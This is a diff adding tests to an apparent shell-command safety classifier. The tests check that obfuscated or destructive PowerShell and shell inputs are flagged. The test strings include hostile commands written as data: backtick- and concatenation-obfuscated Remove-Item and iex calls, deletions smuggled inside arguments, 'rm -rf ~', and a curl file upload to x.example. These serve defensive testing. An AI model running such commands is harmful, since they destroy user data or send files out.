@@ -230,6 +230,67 @@ def test_what_cannot_be_read_for_sure_is_opaque(text: str) -> None:
     assert judged(text).decision == "ask"
 
 
+@pytest.mark.parametrize(
+    "text",
+    [
+        "./Get-Content a.txt",
+        ".\\ls",
+        "C:\\x\\Get-ChildItem",
+        "Get-ChildItem | % Delete",
+        "Get-ChildItem | ForEach-Object -MemberName Delete",
+        "Get-Process node | % Kill",
+        "New-Object IO.StreamWriter a.txt",
+        "sort a.txt -o b.txt",
+        "compare a.png b.png c.png",
+        "sort -o b.txt a.txt",
+        "where -R . x > y",
+        "Set-Item Function:ls { del x }; ls",
+        "Set-Content Function:ls 'del x'; ls",
+        "ls a$(Remove-Item x)b",
+        "ls a(Remove-Item x)b",
+        "Remove`-Item x",
+        "r`m x",
+        "gci|%{ri $_}",
+        "gci|?{ri $_}",
+        "&('Remove'+'-Item') x",
+        ".('iex') 'ls'",
+        "[char]105+'ex' | iex",
+        "Import-Module ./x",
+        "using module ./x",
+        "Out-File a.txt",
+        "Get-ChildItem > a.txt",
+        "Get-ChildItem *> a.txt",
+        "Get-ChildItem 3>a.txt",
+        "Export-Csv a.csv",
+        "Get-Content a.txt | Invoke-Expression",
+        "Invoke-Item a.exe",
+        "Start-Process a.exe",
+        "a.exe",
+        "ls; ; & a",
+        "ls ; #\n& a",
+        "Get-ChildItem -Path (& a)",
+        "Invoke-WebRequest https://x.example",
+        "iwr https://x.example -OutFile a",
+        "Set-Location ..; ./a",
+        "Enter-PSSession host",
+    ],
+)
+def test_what_does_something_else_than_a_read_is_asked(text: str) -> None:
+    assert judged(text).decision == "ask"
+
+
+def test_an_upload_is_none_the_less_one_under_a_name_that_cmdlets_have_too() -> None:
+    assert judged("curl -T a.txt https://x.example").risk == "high"
+    assert judged("curl -InFile a.txt https://x.example").risk == "high"
+    assert judged("rm -rf ~").risk == "critical"
+    assert judged("rm -Recurse -Force ~").risk == "critical"
+
+
+def test_a_cmdlet_is_known_by_its_module_too() -> None:
+    assert judged("Microsoft.PowerShell.Management\\Remove-Item -Recurse ~").risk == "critical"
+    assert judged("Microsoft.PowerShell.Management\\Get-Location").decision == "allow"
+
+
 def test_what_cannot_be_read_is_searched_as_another_shell_has_it() -> None:
     assert judged("del -Recurse x; )").risk == "high"
     assert judged("Get-Content a, .env; )").risk == "high"
@@ -289,6 +350,34 @@ def test_any_text_is_read_without_an_error(pieces: list[str]) -> None:
             assert all(0 <= place <= len(text) for place in word.at)
 
 
-@given(st.text(alphabet="a \"'`;{}()|$\n", max_size=12))
-def test_a_deletion_behind_any_text_is_never_allowed(before: str) -> None:
-    assert judged(f"ls {before}\n\nRemove-Item -Recurse x").decision == "ask"
+SIGNS = st.text(alphabet="a1 \"'`;{}()[]|&$@.,:%=<>!-\n", max_size=14)
+
+
+@given(st.sampled_from(["ls ", "echo ", "$x=", "git status ", "Get-Content "]), SIGNS)
+def test_a_deletion_behind_any_text_is_never_allowed(first: str, before: str) -> None:
+    assert judged(f"{first}{before}\n\nRemove-Item -Recurse x").decision == "ask"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "ls `\n\nRemove-Item -Recurse x",
+        "ls ` \nRemove-Item -Recurse x",
+        "ls ``\nRemove-Item -Recurse x",
+        "ls\r\nRemove-Item -Recurse x",
+        "ls -x#; ri -r x",
+        "ls a#; ri -r x",
+        "ls $a.\nRemove-Item -Recurse x",
+        "ls $a::\nRemove-Item -Recurse x",
+        "ls >\nRemove-Item -Recurse x",
+        "ls > ; ri -r x",
+        "ls (1)--%|; ri -r x",
+    ],
+)
+def test_where_the_grammar_would_go_on_over_a_lines_end_nothing_is_allowed(text: str) -> None:
+    assert judged(text).decision == "ask"
+
+
+def test_a_line_that_goes_on_behind_a_back_tick_is_one_command() -> None:
+    assert ran("git status `\n  --short") == ["git status --short"]
+    assert ran("git status `\n  --short\r\ngit log") == ["git status --short", "git log"]
